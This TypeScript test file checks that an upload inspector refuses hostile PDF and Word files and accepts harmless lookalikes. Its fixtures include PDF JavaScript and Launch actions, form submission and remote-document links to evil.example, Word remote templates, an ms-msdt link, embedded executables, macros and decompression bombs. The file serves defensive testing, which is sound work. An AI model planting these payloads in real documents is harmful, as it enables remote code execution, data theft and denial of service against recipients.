// Documents that would do something by themselves, each refused by what it does, and those that look like it and are harmless.
import { randomBytes } from "node:crypto";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { deflateSync } from "node:zlib";
import { describe, expect, test } from "vitest";
import { growth, mostGrowth } from "../../../testing/growth.ts";
import { docx, objectStream, packedObjects, pdf, pdfOf, pdfStream } from "../../../testing/uploads.ts";
import { inspect } from "./inspect.ts";
import { inTemporaryFolder } from "./temporary.ts";
import type { UploadFault } from "./uploadFault.ts";

const faultOf = (bytes: Buffer, name: string): Promise<UploadFault | null> =>
  inTemporaryFolder(async (folder) => {
    const path = join(folder, "received");
    writeFileSync(path, bytes);
    const result = await inspect(path, name);
    return typeof result === "string" ? result : null;
  });

const script = "<< /S /JavaScript /JS (app.alert(1)) >>";
const uri = "<< /S /URI /URI (https://evil.example/) >>";

describe("a PDF", () => {
  const hostile: [what: string, bytes: Buffer, fault: UploadFault][] = [
    ["with a script in a packed object stream", pdfOf(objectStream({ 4: script })), "script"],
    ["with one whose name is disguised in there", pdfOf(objectStream({ 4: "<< /S /J#61vaScript >>" })), "script"],
    ["with one behind harmless objects", pdfOf(objectStream({ 4: "null", 5: "true", 6: script })), "script"],
    ["whose object stream is not declared", pdfOf(objectStream({ 4: script }, "/N 1 /First 4")), "script"],
    ["whose object stream's checksum is wrong", pdfOf(brokenObjectStream()), "locked"],
    [
      "whose object stream is packed twice",
      pdfOf(
        pdfStream(
          "/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]",
          deflateSync(packedObjects({ 4: script })).toString("hex"),
        ),
      ),
      "locked",
    ],
    ["that is encrypted", pdf("/Encrypt 9 0 R"), "locked"],
    ["that launches a program", pdf("/OpenAction << /S /Launch /F (calc.exe) >>"), "script"],
    ["with a form in XFA", pdf("/AcroForm << /XFA 12 0 R >>"), "sends"],
    ["with a form in XFA, packed", pdfOf(objectStream({ 4: "<< /XFA [(a) 5 0 R] >>" })), "sends"],
    ["with a form that submits itself", pdf("/A << /S /SubmitForm /F (https://evil.example/) >>"), "sends"],
    ["that goes to another document", pdf("/A << /S /GoToR /F (\\\\\\\\evil\\\\share) >>"), "remote"],
    ["that goes to one by an address", pdf("/A << /S /GoToR /F (https://evil.example/a.pdf) >>"), "remote"],
    ["that goes to one in disguise", pdf("/A << /F (\\134\\134evil\\134a.pdf) /S /GoToR >>"), "remote"],
    ["that goes to one from the root", pdf("/A << /S /GoToR /F (/c/a.pdf) >>"), "remote"],
    ["that goes to one on another machine", pdf("/A << /S /GoToR /F (//evil/a.pdf) >>"), "remote"],
    ["that goes to one behind another", pdf("/A << /S /GoToR /F (\\\\evil) /X << /F (a.pdf) >> >>"), "remote"],
    ["that goes to one by two names", pdf("/A << /S /GoToR /F (a.pdf) /#55F (//evil/a.pdf) >>"), "remote"],
    ["that goes to one named elsewhere", pdf("/A << /S /GoToR /F 9 0 R >> /F (a.pdf)"), "remote"],
    ["that goes to one beside it, by itself", pdf("/OpenAction << /S /GoToR /F (a.pdf) >>"), "remote"],
    [
      "that goes to one beside it, by itself, by reference",
      pdfOf("4 0 obj\n<< /S /GoToR /F (a.pdf) >>\nendobj", "<< /OpenAction 4 0 R >>"),
      "remote",
    ],
    ["that opens an address", pdf(`/OpenAction ${uri}`), "remote"],
    ["that opens an address by reference", pdfOf(`4 0 obj\n${uri}\nendobj`, "<< /OpenAction 4 0 R >>"), "remote"],
    [
      "that opens an address by reference into a packed stream",
      pdfOf(objectStream({ 3: "<< /A 1 >>", 4: uri }), objectStream({ 5: "<< /OpenAction 4 0 R >>" })),
      "remote",
    ],
    ["with actions of a page", pdf("/AA << /O 5 0 R >>"), "remote"],
    ["that carries a file", pdf("/Names << /EmbeddedFiles 5 0 R >>"), "embedded"],
    ["that is a web page", pdfOf("<html><script>alert(1)</script></html>"), "webPage"],
    ["that is a web page in capitals", pdfOf("<!DOCTYPE html>"), "webPage"],
    [
      "that unpacks without end",
      pdfOf(pdfStream("/Type /ObjStm", deflateSync(`1 0 ${"<<>> ".repeat(16 * 1024 * 1024)}`))),
      "bomb",
    ],
  ];
  test.each(hostile)("%s is refused, and says why [api.bad-input]", async (_what, bytes, fault) => {
    expect(await faultOf(bytes, "a.pdf")).toBe(fault);
  });

  const harmless: [what: string, bytes: Buffer][] = [
    ["with packed objects", pdfOf(objectStream({ 4: "<< /Type /Page >>", 5: "[1 2 3]" }))],
    ["that opens at a page", pdf("/OpenAction [3 0 R /FitH null]")],
    ["that goes to a page", pdf("/OpenAction << /D [3 0 R /Fit] /S /GoTo >> /PageLabels << /Nums [0 << /S /D >>] >>")],
    [
      "that goes to a page by reference",
      pdfOf(objectStream({ 4: "<< /S /GoTo /D [3 0 R /Fit] >>", 5: "<< /OpenAction 4 0 R >>", 6: uri })),
    ],
    ["with a link to press", pdf(`/Annots [<< /Subtype /Link /A ${uri} >>]`)],
    ["with a link to press, to a document beside it", pdf("/A << /F (R-exts.pdf) /S /GoToR /D (Preface) >>")],
    ["with one into a folder beside it", pdf("/A<</F(../doc/Sweave.pdf)/S/GoToR/D[0/Fit]>>")],
    [
      "with many of them",
      pdfOf(
        ...Array.from({ length: 4_000 }, () => "<< /A << /F (R-exts.pdf) /S /GoToR /D (System and language) >> >>"),
      ),
    ],
    ["with drawings", pdfOf(pdfStream("/Filter /FlateDecode", deflateSync("1 0 0 1 72 720 cm 0 0 m 10 10 l S")))],
    ["with a picture", pdfOf(pdfStream("/Subtype /Image /Filter /DCTDecode", randomBytes(100_000)))],
    ["with a form to print", pdf("/AcroForm << /Fields [] >>")],
  ];
  test.each(harmless)("%s is taken [input.attachment-size]", async (_what, bytes) => {
    expect(await faultOf(bytes, "a.pdf")).toBe(null);
  });
});

describe("a .docx", () => {
  const relationships = (...attributes: string[]) => ({
    "word/_rels/document.xml.rels": `<?xml version="1.0"?>\r\n<Relationships xmlns="x">${attributes
      .map((each) => `<Relationship Id="r1" ${each}/>`)
      .join("")}</Relationships>`,
  });
  const typed = (type: string) => `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}"`;
  const external = (type: string, target: string) => `${typed(type)} Target="${target}" TargetMode="External"`;
  const hostile: [what: string, bytes: Buffer, fault: UploadFault][] = [
    ["a remote template", docx(relationships(external("attachedTemplate", "https://evil.example/t.dotm"))), "remote"],
    [
      "a template on another machine",
      docx(relationships(external("attachedTemplate", "file:////evil/t.dotm"))),
      "remote",
    ],
    ["one in disguise", docx(relationships(external("attachedTemplate", "x").replace("Ext", "&#69;xt"))), "remote"],
    ["one that does not say so", docx(relationships(`${typed("attachedTemplate")} Target="//evil/t.dotm"`)), "remote"],
    ["a picture from elsewhere", docx(relationships(external("image", "https://evil.example/1.png"))), "remote"],
    ["a link that starts a program", docx(relationships(external("hyperlink", "ms-msdt:/id"))), "remote"],
    ["an OLE object", docx({ "word/embeddings/oleObject1.bin": "x" }), "embedded"],
    [
      "an OLE object by another name",
      docx({ "word/media/a.png": "x", ...relationships(`${typed("oleObject")} Target="media/a.png"`) }),
      "embedded",
    ],
    ["a program", docx({ "word/media/setup.exe": "MZ" }), "embedded"],
    ["macros", docx({ "word/vbaProject.bin": "x" }), "script"],
    ["macros by another name", docx(relationships(`${typed("vbaProject")} Target="media/a.png"`)), "script"],
    ["a bomb that says its size", docx({}, { claimed: 2 ** 31 }), "bomb"],
    ["a bomb that lies about its size", docx({ "word/media/a.png": "A".repeat(5_000_000) }, { claimed: 9 }), "bomb"],
    [
      "relationships that cannot be read",
      docx({ "_rels/.rels": "<!DOCTYPE x [<!ENTITY y 'z'>]><Relationships/>" }),
      "content",
    ],
    ["two parts of one name", docx({ "WORD/document.xml": "<document/>" }), "content"],
    ["something behind its end", Buffer.concat([docx(), Buffer.from("<html>")]), "content"],
  ];
  test.each(hostile)("with %s is refused, and says why [api.bad-input]", async (_what, bytes, fault) => {
    expect(await faultOf(bytes, "a.docx")).toBe(fault);
  });

  test("with pictures and links to press is taken [input.attachment-size]", async () => {
    const parts = {
      "word/media/image1.png": "x",
      "docProps/app.xml": "<Properties/>",
      ...relationships(
        `${typed("image")} Target="media/image1.png"`,
        external("hyperlink", "https://example.com/?a=1&amp;b=2"),
        external("hyperlink", "mailto:ada@example.com"),
        external("attachedTemplate", "file:///C:\\Users\\Ada\\Letter.dotx"),
      ),
    };
    expect(await faultOf(docx(parts), "a.docx")).toBe(null);
  });
});

function brokenObjectStream(): Buffer {
  const stream = objectStream({ 4: script });
  const end = stream.indexOf("\nendstream");
  stream[end - 1]! ^= 0xff;
  return stream;
}

const evil: [what: string, name: string, make: (n: number) => Buffer][] = [
  ["the beginnings of streams", "a.pdf", (n) => pdfOf("stream\n\x78\x9c1 0 ".repeat(n * 2_000))],
  ["the beginnings of actions", "a.pdf", (n) => pdfOf("/OpenAction << /S ".repeat(n * 10_000))],
  ["the beginnings of objects", "a.pdf", (n) => pdfOf("1 0 obj ".repeat(n * 20_000))],
  ["digits", "a.pdf", (n) => pdfOf("1".repeat(n * 150_000))],
  ["the beginnings of attributes", "a.docx", (n) => docx({ "_rels/.rels": `<R ${'a="" '.repeat(n * 5_000)}` })],
];
test.each(evil)("eight times as many of %s cost about eight times the work", async (_what, name, make) => {
  const read = (size: number) => {
    const bytes = make(size);
    return () => faultOf(bytes, name);
  };
  expect(await growth(read)).toBeLessThan(mostGrowth);
});
